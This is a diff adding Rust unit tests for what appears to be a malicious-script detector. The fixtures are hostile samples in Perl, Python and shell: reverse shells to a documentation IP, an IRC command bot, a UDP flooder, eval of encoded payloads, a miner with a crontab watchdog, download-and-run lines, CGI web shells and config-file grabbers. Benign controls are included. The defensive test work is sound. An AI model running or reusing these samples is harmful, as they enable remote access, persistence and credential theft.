@@ -1,0 +1,108 @@
+use super::*;
+
+fn whys(text: &str) -> Vec<Why> {
+    signs(text.as_bytes()).into_iter().map(|s| s.why).collect()
+}
+
+#[test]
+fn back_connect_shells_in_each_language_are_found() {
+    let perl = "#!/usr/bin/perl\nuse Socket;\n$h = $ARGV[0]; $p = $ARGV[1];\n\
+                socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\n\
+                connect(S, sockaddr_in($p, inet_aton($h))) or die;\n\
+                open(STDIN, \">&S\"); open(STDOUT, \">&S\"); open(STDERR, \">&S\");\nexec('/bin/sh -i');\n";
+    let python = "import socket, os, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
+                  s.connect(('198.51.100.9', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n\
+                  os.dup2(s.fileno(), 2)\npty.spawn('/bin/bash')\n";
+    let shell = "#!/bin/sh\nwhile true; do bash -i >& /dev/tcp/198.51.100.9/4444 0>&1; sleep 60; done\n";
+    let netcat =
+        "#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.9 4444 > /tmp/f\n";
+    for src in [perl, python, shell, netcat] {
+        assert_eq!(whys(src), [Why::RemoteShell], "{src}");
+    }
+}
+
+#[test]
+fn an_irc_bot_and_a_flooder_are_found() {
+    let bot = "#!/usr/bin/perl\nuse IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => $server, PeerPort => 6667);\n\
+               print $s \"NICK $nick\\r\\nUSER $nick 8 * :$nick\\r\\n\";\nprint $s \"JOIN $chan\\r\\n\";\n\
+               while (<$s>) { if (/PRIVMSG $chan :!sh (.*)/) { my @o = `$1`; print $s \"PRIVMSG $chan :$_\" for @o; } }\n";
+    assert!(whys(bot).contains(&Why::NetworkBot), "{:?}", whys(bot));
+    let flood = "import socket, random, time\ndef udp_flood(ip, port, secs):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
+                 end = time.time() + secs\n    while time.time() < end:\n        s.sendto(random._urandom(1024), (ip, port))\n";
+    assert_eq!(whys(flood), [Why::NetworkBot]);
+}
+
+#[test]
+fn packed_code_run_is_found() {
+    for src in [
+        "#!/usr/bin/perl\neval unpack u=>q{_\"!P<FEN=\"!A;&EA9&\"0`};\n",
+        "use MIME::Base64;\neval(decode_base64('cHJpbnQgImhpIjs='));\n",
+        "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJzLKM3JyQcABiwCFQ==')))\n",
+        "#!/bin/bash\necho 'ZWNobyBoaQo=' | base64 -d | bash\n",
+        "#!/usr/bin/perl\nmy $p = ''; $p .= $_ while (<DATA>); $p = unpack('u*', $p); $p =~ tr/a-f/f-a/; eval $p;\n__DATA__\nM(&%\n",
+    ] {
+        assert_eq!(whys(src), [Why::EvalOfDecoded], "{src}");
+    }
+}
+
+#[test]
+fn a_miner_and_its_watchdog_are_found() {
+    let miner = "#!/bin/sh\n./kswapd0 -o stratum+tcp://pool.example:3333 -u 4Abc --donate-level 1 >/dev/null 2>&1 &\n";
+    assert_eq!(whys(miner), [Why::StartsProgram]);
+    let watchdog =
+        "#!/bin/bash\n(crontab -l 2>/dev/null; echo \"* * * * * cd $PWD && ./mining >/dev/null 2>&1\") | crontab -\n";
+    assert_eq!(whys(watchdog), [Why::StartsProgram]);
+    let from_a_file = "#!/bin/sh\ndir=$(pwd)\necho \"* * * * * $dir/keepalive >/dev/null 2>&1\" > jobs\ncrontab jobs\n";
+    assert_eq!(whys(from_a_file), [Why::StartsProgram]);
+}
+
+#[test]
+fn downloads_started_from_hidden_places_are_found() {
+    let piped = "#!/bin/sh\nwget -q -O- http://198.51.100.7/i.sh | sh\n";
+    assert_eq!(whys(piped), [Why::DownloadsProgram]);
+    let hidden = "#!/bin/sh\ncd /dev/shm; curl -s https://files.example/b -o .b; chmod +x .b; /dev/shm/.b &\n";
+    assert_eq!(whys(hidden), [Why::DownloadsProgram]);
+}
+
+#[test]
+fn cgi_shells_and_config_grabbers_are_found() {
+    let perl = "#!/usr/bin/perl\nuse CGI qw(param);\nprint \"Content-type: text/html\\n\\n\";\nmy $c = param('cmd');\nprint `$c 2>&1`;\n";
+    assert_eq!(whys(perl), [Why::ShellFromInput]);
+    let python = "#!/usr/bin/env python\nimport cgi, os\nform = cgi.FieldStorage()\ncmd = form.getvalue('command')\n\
+                  print('Content-Type: text/plain\\n')\nprint(os.popen(cmd).read())\n";
+    assert_eq!(whys(python), [Why::ShellFromInput]);
+    let grabber = "#!/usr/bin/perl\nopen(P, '/etc/passwd'); while (<P>) { my ($u) = split /:/;\n\
+                   symlink(\"/home/$u/public_html/wp-config.php\", \"$u-wp.txt\");\n\
+                   symlink(\"/home/$u/public_html/configuration.php\", \"$u-joomla.txt\"); }\n";
+    assert_eq!(whys(grabber), [Why::ReadsOtherSites]);
+    let walker = "#!/usr/bin/perl\nsub grab { my ($u) = @_;\n\
+                  symlink('/home/'.$u.'/public_html/wp-config.php', \"$u-wp.txt\");\n\
+                  symlink('/home/'.$u.'/public_html/includes/configure.php', \"$u-shop.txt\");\n\
+                  symlink('/home/'.$u.'/public_html/config.inc.php', \"$u-members.txt\"); }\n";
+    assert_eq!(whys(walker), [Why::ReadsOtherSites]);
+}
+
+#[test]
+fn a_re_infector_writing_php_with_a_decoded_payload_is_found() {
+    let py = "import base64, os\npayload = base64.b64decode(KEPT).decode()\nfor f in targets:\n    code = open(f).read()\n\
+              if payload not in code:\n        with open(f, 'w') as out:\n            out.write(code + '?><?php ' + payload)\n";
+    assert_eq!(whys(py), [Why::InjectsHiddenCode]);
+    // A generator writing a PHP configuration, nothing decoded: quiet.
+    let generator = "with open('config.php', 'w') as f:\n    f.write('<?php\\n$db = ' + repr(name) + ';\\n')\n";
+    assert_eq!(whys(generator), []);
+}
+
+#[test]
+fn ordinary_scripts_are_quiet() {
+    let deploy = "#!/bin/bash\nset -e\ncurl -fsSL https://releases.example/tool.tar.gz -o tool.tar.gz\ntar xzf tool.tar.gz\n\
+                  chmod +x tool/bin/run\n./tool/bin/run --migrate\n(crontab -l; echo '0 3 * * * /home/demo/bin/backup.sh') | crontab -\n";
+    assert_eq!(whys(deploy), []);
+    let formmail = "#!/usr/bin/perl\nuse CGI qw(param);\nmy $to = 'info@demo.example';\nmy $msg = param('message');\n\
+                    open(MAIL, \"|$mailprog -t\") or die;\nprint MAIL \"To: $to\\n\\n$msg\\n\";\nclose MAIL;\n";
+    assert_eq!(whys(formmail), []);
+    let client =
+        "import socket\ns = socket.create_connection(('api.example', 443))\ns.sendall(b'PING')\nprint(s.recv(10))\n";
+    assert_eq!(whys(client), []);
+    let build = "#!/bin/sh\n./configure --prefix=$HOME/.local && make && make install\nrm -rf /tmp/build-$$\n";
+    assert_eq!(whys(build), []);
+}
